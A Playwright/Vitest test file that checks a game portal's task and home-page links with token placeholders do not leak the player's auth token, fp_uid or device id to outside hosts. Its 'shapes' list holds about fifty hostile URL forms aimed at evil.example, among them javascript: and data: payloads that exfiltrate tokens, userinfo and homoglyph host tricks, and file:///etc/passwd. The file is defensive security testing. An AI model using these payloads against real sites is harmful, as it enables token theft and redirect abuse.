import type { Page, Request } from 'playwright'
import { describe, expect } from 'vitest'
import { chooseRole, createPlayer, type Player, test, type Visit } from '../set-up/browser.ts'
import { settle } from '../set-up/settle.ts'
import { shareOut } from '../set-up/share-out.ts'

const placeholders = [
  '{{token}}',
  '{{platform_token}}',
  '{{open_id}}',
  '{{properties}}',
  '{{fp_uid}}',
  '{{token}}{{open_id}}',
  '{{{token}}}',
  '{{ token }}',
  '%7B%7Btoken%7D%7D',
  '{{platform_token}}&isInWebview=true',
]

/** Addresses that want what a placeholder says to get somewhere, or code to run. */
const shapes: readonly ((placeholder: string) => string)[] = [
  (p) => `https://evil.example/?a=${p}`,
  (p) => `https://evil.example/${p}`,
  (p) => `https://evil.example/#${p}`,
  (p) => `https://evil.example?a=${p}&b=https://partner.example`,
  (p) => `https://evil.example/partner.example/?a=${p}`,
  (p) => `HTTPS://EVIL.EXAMPLE/?a=${p}`,
  (p) => `http://evil.example/?a=${p}`,
  (p) => `http://partner.example/?a=${p}`,
  (p) => `https://partner.example:8443/?a=${p}`,
  (p) => `https://partner.example./?a=${p}`,
  (p) => `https://partner.example.evil.example/?a=${p}`,
  (p) => `https://sub.partner.example/?a=${p}`,
  (p) => `https://partner.example@evil.example/?a=${p}`,
  (p) => `https://partner.example:443@evil.example/?a=${p}`,
  (p) => `https://${p}@evil.example/`,
  (p) => `https://partner.example%2eevil.example/?a=${p}`,
  (p) => `https://partner.example%40evil.example/?a=${p}`,
  (p) => `https://evil.example\\@partner.example/?a=${p}`,
  (p) => `https://partner.example\\.evil.example/?a=${p}`,
  (p) => `https://${p}.evil.example/`,
  (p) => `https://${p}`,
  (p) => `https:evil.example/?a=${p}`,
  (p) => `https:/evil.example/?a=${p}`,
  (p) => `https:///evil.example/?a=${p}`,
  (p) => ` https://evil.example/?a=${p}`,
  (p) => `https://evil.example/\n?a=${p}`,
  (p) => `https://\tevil.example/?a=${p}`,
  (p) => `https://p\u0430rtner.example/?a=${p}`,
  (p) => `https://partner\u3002evil.example/?a=${p}`,
  (p) => `https://[::1]:8443/?a=${p}`,
  (p) => `https://0xc0a80001:8443/?a=${p}`,
  (p) => `//evil.example/?a=${p}`,
  (p) => `/\\evil.example/?a=${p}`,
  (p) => `\\\\evil.example/?a=${p}`,
  (p) => `/stateofsurvival//evil.example/?a=${p}`,
  (p) => `javascript:location='https://evil.example/?a=${p}'`,
  (p) => `JaVaScRiPt:alert('${p}')`,
  (p) => `java\tscript:alert('${p}')`,
  (p) => `data:text/html,<script>location='https://evil.example/?a=${p}'</script>`,
  (p) => `blob:https://evil.example/${p}`,
  (p) => `file:///etc/passwd?a=${p}`,
  (p) => `ftp://evil.example/${p}`,
  (p) => `ws://evil.example/${p}`,
  (p) => `intent://evil.example/?a=${p}#Intent;scheme=https;end`,
  (p) => `mailto:a@evil.example?body=${p}`,
  (p) => `view-source:https://evil.example/?a=${p}`,
  (p) => `about:blank#${p}`,
  (p) => `store?next=https://evil.example/?a=${p}`,
  (p) => `../../evil/${p}`,
  (p) => `myinfo/active/${p}`,
]
const hostile = shapes.flatMap((shape) => placeholders.map(shape))
/** In `npm test` a third of them, with every shape and every placeholder. */
const pressed = shareOut(hostile, 0, 3)
const trusted = 'https://partner.example/in?t={{platform_token}}&o={{open_id}}&p={{properties}}'

const answer = (data: unknown) => ({ json: { code: 0, msg: '', data } })

const toTask = (link: string, index: number) => ({
  task_key: `task-${index}`,
  task_category: 1,
  title: `Task ${index}`,
  content: 'Go there.',
  icon: 'star',
  progress: 0,
  target: 1,
  status: 0,
  cycle_type: 1,
  start_time: 0,
  end_time: 0,
  link,
  item_list: [],
})
const toPosition = (link: string, index: number) => ({
  enter_key: `place-${index}`,
  title: `Place ${index}`,
  icon: 'star',
  link,
  style: 0,
  weight: 1000 - index,
})

/** Where the platform names addresses, and what it answers there. */
const sources = [
  {
    name: 'tasks',
    path: '/stateofsurvival/benefits/pointstask',
    call: '**/api/task/task_list',
    list: '.task',
    data: (links: readonly string[]) => ({ task_list: links.map(toTask) }),
  },
  {
    name: 'positions',
    path: '/stateofsurvival',
    call: '**/api/index/positions',
    list: '.entries--home',
    data: (links: readonly string[]) => ({ position_list: links.map(toPosition) }),
  },
] as const

/** What nobody but the publisher's hosts may hear. */
interface Secrets {
  known: string[]
}

/**
 * Opens a page whose platform names these addresses. Every page that is gone to from there, and whatever is asked of another
 * host, is captured and answered with nothing, so that the page stays.
 */
async function openWith(visit: Visit, source: (typeof sources)[number], links: readonly string[], query = '') {
  visit.allow(/ERR_|Failed to load|net::/)
  const player: Player = await createPlayer()
  await chooseRole(player)
  const captured: Request[] = []
  const secrets: Secrets = { known: [player.token, player.fpUid] }
  const page = await visit.open('/404', { as: player })
  await page.route(source.call, (route) => route.fulfill(answer(source.data(links))))
  await page.route('**/index/link_hosts', (route) =>
    route.fulfill(answer({ ticket_hosts: ['partner.example'], webview_hosts: ['inside.example'] })),
  )
  page.on('response', async (response) => {
    if (response.url().endsWith('sdk/get_h5_token')) secrets.known.push(...(await response.json()).data)
  })
  await page.goto(visit.origin + source.path + query)
  await page.locator(`${source.list} a`).first().waitFor()
  await settle(page)
  secrets.known.push(...(await page.evaluate(() => Object.values({ device: localStorage['guildhall.device_id'] }))))
  await page.route(
    () => true,
    async (route) => {
      const request = route.request()
      const isOut = new URL(request.url()).origin !== visit.origin
      if (!isOut && !request.isNavigationRequest()) return await route.fallback()
      captured.push(request)
      await route.fulfill({ status: 204 })
    },
  )
  return { page, captured, secrets }
}

/** Presses every link of a list, one after the other; says how many there are. */
async function pressAll(page: Page, list: string): Promise<number> {
  const count = await page.locator(`${list} a`).count()
  for (let index = 0; index < count; index += 1) {
    await page.evaluate(
      async ([places, at]) => {
        document.querySelectorAll<HTMLElement>(`${places} a`)[at]?.click()
        await new Promise((rested) => setTimeout(rested, 30))
      },
      [list, index] as const,
    )
  }
  await settle(page)
  return count
}

const hear = (request: Request) =>
  decodeURIComponent(
    `${request.url()} ${Object.values(request.headers()).join(' ')} ${request.postData() ?? ''}`.replaceAll(
      /%(?![\da-f]{2})/gi,
      '',
    ),
  )

describe.each(sources)('addresses of $name', (source) => {
  test('lead nowhere that hears of the player, 500 hostile ones, in a browser and in a webview', async ({ visit }) => {
    expect(new Set(hostile).size).toBe(500)
    for (const query of ['', '?is_in_webview=1']) {
      const { page, captured, secrets } = await openWith(visit, source, [...pressed, 'store'], query)
      const schemes = await page
        .locator(`${source.list} a`)
        .evaluateAll((links) =>
          links.map((link) => /^(https?):|^\/(?!\/)/i.exec(link.getAttribute('href') ?? '')?.[0].toLowerCase()),
        )
      expect(new Set(schemes)).toEqual(new Set(['http:', 'https:', '/']))
      expect(await pressAll(page, source.list)).toBeLessThan(350)
      expect(captured.filter((request) => new URL(request.url()).hostname === 'evil.example').length).toBeGreaterThan(
        10,
      )
      const abroad = captured.filter((request) => new URL(request.url()).origin !== visit.origin)
      const leaks = abroad.filter((request) => secrets.known.some((secret) => hear(request).includes(secret)))
      expect(leaks.map((request) => request.url())).toEqual([])
      expect(captured.filter((request) => !/^https?:/.test(request.url()))).toEqual([])
    }
  })

  test('take a ticket, who the player is and the device to a host of the publisher, and the auth token nowhere', async ({
    visit,
  }) => {
    const { page, captured, secrets } = await openWith(visit, source, [trusted])
    await pressAll(page, source.list)
    await expect.poll(() => captured.length).toBe(1)
    const [request] = captured
    const [token, fpUid, device, ticket] = secrets.known
    const { host, searchParams } = new URL(request?.url() ?? '')
    expect([host, searchParams.get('t'), searchParams.get('o')]).toEqual(['partner.example', ticket, fpUid])
    expect(JSON.parse(searchParams.get('p') ?? '{}')).toMatchObject({ device_id: device })
    expect(request && hear(request)).not.toContain(token)
  })
})
